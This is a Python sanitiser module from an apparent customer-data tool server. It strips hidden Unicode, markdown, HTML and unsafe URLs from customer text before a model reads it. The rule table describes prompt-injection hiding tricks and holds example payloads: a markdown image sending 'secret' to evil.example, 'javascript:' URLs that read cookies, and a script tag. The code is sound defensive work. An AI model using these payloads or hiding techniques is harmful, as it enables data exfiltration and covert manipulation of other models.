"""What every string cdp-mcp returns is cleaned of, and why: one table (`RULES`), one function per scope.

Customer-written text (names, addresses, attribute values, activity text: `wire.Origin.CUSTOMER`) reaches the
model of a support agent or a campaign planner. Whoever typed it may have written instructions for that model,
hidden them where a person cannot see them, or planted markup that makes a host fetch a URL carrying data out.
These rules take away the hiding places and the markup; what is left is plain text a model and a person read
alike, which the results label as customer-written (`tools/untrusted.py`). Ordinary text passes byte for byte
unchanged: each rule removes only what ordinary names, addresses and descriptions never hold.

- `clean_text`: every string (keys, our own messages, tenant and system values): the invisible and control rules.
- `clean_customer_text`: customer text: those, then markup, a value that is a URL, and the length cap.
- `clean_url`: a URL field: an absolute http(s) URL without credentials, or nothing.

A value with nothing left, or a URL that may not be kept, comes back as `Withheld` with the reason, for the
result to say what it left out; no input makes these functions raise.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from enum import StrEnum
from urllib.parse import urlsplit

__all__ = [
    "DEFAULT_MAX_FIELD_CHARS",
    "KEPT_FORMAT_CHARACTERS",
    "RULES",
    "Rule",
    "Scope",
    "Withheld",
    "clean_customer_text",
    "clean_text",
    "clean_url",
    "may_change",
]

DEFAULT_MAX_FIELD_CHARS = 500
"""Characters of one customer-written value a result carries (CDP_MAX_FIELD_CHARS), before the cut mark."""


class Scope(StrEnum):
    """Which strings a rule applies to."""

    EVERY = "every string"
    CUSTOMER = "customer text"
    URL = "URL fields"


@dataclass(frozen=True, slots=True)
class Rule:
    """One row of the table: what is removed from which strings, why, and an example (before, after)."""

    name: str
    scope: Scope
    removes: str
    why: str
    example: tuple[str, str | None]  # after: None when the value is left out


@dataclass(frozen=True, slots=True)
class Withheld:
    """A value the result leaves out, and why (the result names it under `withheld`)."""

    why: str


_TAGS = "\U000e0000-\U000e007f"
_BIDI = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
_ZERO_WIDTH = "\u200b-\u200d\u2060\ufeff\u180e"
_CONTROLS = "\x00-\x08\x0b-\x1f\x7f-\x9f"
_OTHER_FORMAT = "\u00ad\u2061-\u2064\u206a-\u206f\ufff9-\ufffb\U0001bca0-\U0001bca3\U0001d173-\U0001d17a"
KEPT_FORMAT_CHARACTERS = "\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd\U00013430-\U0001345f"
"""Format characters (Unicode category Cf) that are visible where they occur (the prepended number signs of
Arabic, Syriac and Kaithi, the format controls of Egyptian hieroglyphs): kept. Every other Cf is removed."""
_SELECTORS = "\ufe00-\ufe0f\U000e0100-\U000e01ef"
_SURROGATES = "\ud800-\udfff"

_REMOVED = re.compile(f"[{_TAGS}{_BIDI}{_ZERO_WIDTH}{_CONTROLS}{_OTHER_FORMAT}]+")
_SELECTOR_RUN = re.compile(f"(?:^|(?<=[{_SELECTORS}]))[{_SELECTORS}]+")
_SURROGATE = re.compile(f"[{_SURROGATES}]")
_ANY_GENERAL = re.compile(f"[{_TAGS}{_BIDI}{_ZERO_WIDTH}{_CONTROLS}{_OTHER_FORMAT}{_SELECTORS}{_SURROGATES}]")
_ANY_GENERAL_IN_JSON = re.compile(f"[{_TAGS}{_BIDI}{_ZERO_WIDTH}{_CONTROLS}{_OTHER_FORMAT}{_SELECTORS}{_SURROGATES}]"
                                  r"|\\[bfr]|\\u00[01]")  # JSON writes C0 controls as escapes

_NESTED = r"(?:[^\[\]]|\[[^\[\]]*\])*"  # link text with one level of brackets inside, as CommonMark allows
_DESTINATION = r"\(\s*(?:<[^<>]*>|(?:[^()\s]|\([^()]*\))*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
_IMAGE = re.compile(rf"!\[({_NESTED})\](?:{_DESTINATION}|\[[^\[\]]*\])")
_LINK = re.compile(rf"\[({_NESTED})\](?:{_DESTINATION}|\[[^\[\]]*\])")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*|[^<>\s@]+@[^<>\s@]+)>")
_DEFINITION = re.compile(r"^ {0,3}\[[^\[\]]+\]:[ \t]*\S.*$", re.MULTILINE)
_COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.DOTALL)
_ATTRIBUTES = r"(?:\s(?:[^<>\"']|\"[^\"]*\"|'[^']*')*)?"
_HIDDEN_ELEMENT = re.compile(rf"<(script|style|template)\b{_ATTRIBUTES}>.*?(?:</\1\s*>|\Z)", re.DOTALL | re.IGNORECASE)
_TAG = re.compile(rf"</?[A-Za-z][A-Za-z0-9:-]*{_ATTRIBUTES}/?>|<[!?][^<>]*>|</?[A-Za-z][A-Za-z0-9:-]*{_ATTRIBUTES}\Z")
_SPACES = re.compile(r"[ \t]{2,}")
_MARKUP_PASSES = 3
_WORK_FACTOR = 20  # customer text longer than this many times the cap is cut before its markup is read

_URL_SCHEMES = frozenset({"http", "https", "javascript", "vbscript", "livescript", "data", "file", "blob",
                          "filesystem", "about", "jar", "view-source", "ftp", "ws", "wss", "mailto", "tel", "sms"})
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):\S*$")
_URL_WHITESPACE = re.compile(r"[\t\n\r]")  # browsers drop these inside a URL: `java\tscript:` is javascript:

RULES: tuple[Rule, ...] = (
    Rule("tag characters", Scope.EVERY, "Unicode tag characters U+E0000-U+E007F",
         "invisible: they spell out ASCII text a model reads and a person never sees",
         ("Ada\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065", "Ada")),
    Rule("bidi controls", Scope.EVERY, "bidirectional embeddings, overrides, isolates and marks (U+202A-U+202E, "
         "U+2066-U+2069, U+200E, U+200F, U+061C)",
         "they reorder what a person sees against what a model reads", ("\u202esnoitcurtsni\u202c", "snoitcurtsni")),
    Rule("zero-width characters", Scope.EVERY, "zero-width space, non-joiner and joiner, word joiner, U+FEFF, "
         "U+180E", "invisible: they hide text in patterns and split words a filter looks for",
         ("ig\u200bnore", "ignore")),
    Rule("control characters", Scope.EVERY, "C0 and C1 controls other than newline and tab (carriage return, "
         "escape, NUL ...)", "terminal escapes and invisible breaks", ("Ada\x1b[8m\r", "Ada[8m")),
    Rule("other invisible format characters", Scope.EVERY, "soft hyphen, invisible operators, interlinear "
         "annotation and the other invisible Unicode format characters",
         "invisible carriers for the same tricks", ("Ad\u00ada\u2062", "Ada")),
    Rule("variation selector runs", Scope.EVERY, "a variation selector directly after another, or at the start",
         "one selector picks a glyph; a run of them encodes hidden bytes",
         ("\u2764\ufe0f\ufe01\U000e0101", "\u2764\ufe0f")),
    Rule("lone surrogates", Scope.EVERY, "UTF-16 halves without their pair, replaced by U+FFFD",
         "not text: they cannot be encoded, and would break the whole result", ("Ada\ud800", "Ada\ufffd")),
    Rule("markdown images", Scope.CUSTOMER, "`![alt](url)` and `![alt][ref]`, keeping the alt text",
         "a host that renders the answer fetches the image: its URL can carry data out, with no click",
         ("![logo](https://evil.example/?q=secret)", "logo")),
    Rule("markdown links", Scope.CUSTOMER, "`[text](url)`, `[text][ref]`, `<scheme:...>` and `[ref]: url`, keeping "
         "the visible text", "a link the model repeats can carry data out or run `javascript:`",
         ("[click](javascript:alert(1))", "click")),
    Rule("HTML", Scope.CUSTOMER, "tags, comments and the content of `script`, `style` and `template` elements, "
         "keeping the visible text", "markup a host or a view might render, and text hidden in comments",
         ("<b>Ada</b><script>alert(1)</script><!-- hidden -->", "Ada")),
    Rule("a value that is a URL", Scope.CUSTOMER, "the whole value, unless it is an absolute http(s) URL without "
         "credentials, no longer than the length cap", "`javascript:`, `data:` and `file:` URLs act when rendered; "
         "credentials do not belong in a result", ("javascript:alert(document.cookie)", None)),
    Rule("length", Scope.CUSTOMER, f"everything after `CDP_MAX_FIELD_CHARS` characters ({DEFAULT_MAX_FIELD_CHARS} by "
         "default), with a visible mark", "a huge value drowns the conversation and the instructions around it",
         ("x" * (DEFAULT_MAX_FIELD_CHARS + 1), "x" * DEFAULT_MAX_FIELD_CHARS + "… [cut: 501 characters in all]")),
    Rule("URL fields", Scope.URL, "anything but an absolute http(s) URL without credentials",
         "the same, for fields that hold a URL", ("https://user:pw@img.example.com/a.png", None)),
)
"""What is removed, from which strings, and why; each example is checked by a test."""


def clean_text(text: str) -> str:
    """`text` without the invisible and control characters of the table (every string we return passes here)."""
    if not _ANY_GENERAL.search(text):
        return text
    text = _SURROGATE.sub("\ufffd", text)
    text = _REMOVED.sub("", text)
    return _SELECTOR_RUN.sub("", text)


def may_change(json_text: str) -> bool:
    """Whether `clean_text` could change a string of this JSON text (`ensure_ascii=False`); a false yes is allowed
    (an escaped backslash before `r`, an emoji's one variation selector), a false no is not. One search over a
    whole result spares the walk through it when nothing is there."""
    return _ANY_GENERAL_IN_JSON.search(json_text) is not None


def _url_verdict(text: str) -> str | Withheld:
    try:
        parts = urlsplit(text)
        credentials = parts.username is not None or parts.password is not None or "@" in parts.netloc
    except ValueError:  # an invalid port, an unbalanced IPv6 bracket
        return Withheld("not a valid URL")
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return Withheld("not an absolute http(s) URL")
    if credentials:
        return Withheld("a URL with credentials")
    return text


def clean_url(text: str) -> str | Withheld:
    """A URL field's value: kept when it is an absolute http(s) URL without credentials, else left out."""
    text = clean_text(text).strip()
    return _url_verdict(_URL_WHITESPACE.sub("", text))


def _is_url(text: str) -> bool:
    """Whether a customer value is one URL (a browser would follow it), rather than text that mentions one."""
    if ":" not in text:
        return False
    match = _SCHEME.match(_URL_WHITESPACE.sub("", text).strip())
    return match is not None and (match.group(1).lower() in _URL_SCHEMES or "://" in text)


def _without_markup(text: str) -> str:
    for _ in range(_MARKUP_PASSES):  # removing one piece can join two others into markup: read it again
        before = text
        text = _COMMENT.sub("", text)
        text = _HIDDEN_ELEMENT.sub("", text)
        text = _TAG.sub("", text)
        text = _DEFINITION.sub("", text)
        text = _IMAGE.sub(r"\1", text)
        text = _LINK.sub(r"\1", text)
        text = _AUTOLINK.sub(r"\1", text)
        if text == before:
            return text
    if _TAG.search(text) or _IMAGE.search(text) or _LINK.search(text) or _AUTOLINK.search(text):
        text = re.sub(r"[<>\[\]]", "", text)  # markup nested deeper than the passes: no bracket, no markup
    return text


def clean_customer_text(text: str, cap: int = DEFAULT_MAX_FIELD_CHARS) -> str | Withheld:
    """Customer-written `text` as a result may carry it: `clean_text`, then without markup, a URL only when it is
    one a result may hold, at most `cap` characters with a mark saying how long it was. Left out when nothing is
    left of it."""
    total = len(text)
    work = text[:cap * _WORK_FACTOR] if total > cap * _WORK_FACTOR else text
    cleaned = clean_text(work)
    if _is_url(cleaned):
        url = clean_url(cleaned)
        too_long = isinstance(url, str) and (len(url) > cap or len(work) < total)  # a URL cut short is no URL
        return Withheld(f"a URL longer than {cap:,} characters") if too_long else url
    if "<" in cleaned or "[" in cleaned:
        marked = _without_markup(cleaned)
        if marked != cleaned:
            cleaned = _SPACES.sub(" ", marked).strip()
    if not cleaned and text:
        read = f" in its first {len(work):,} characters" if len(work) < total else ""
        return Withheld(f"nothing but hidden characters or markup{read}")
    if len(cleaned) > cap or len(work) < total:
        cleaned = f"{cleaned[:cap]}… [cut: {total:,} characters in all]"
    return cleaned
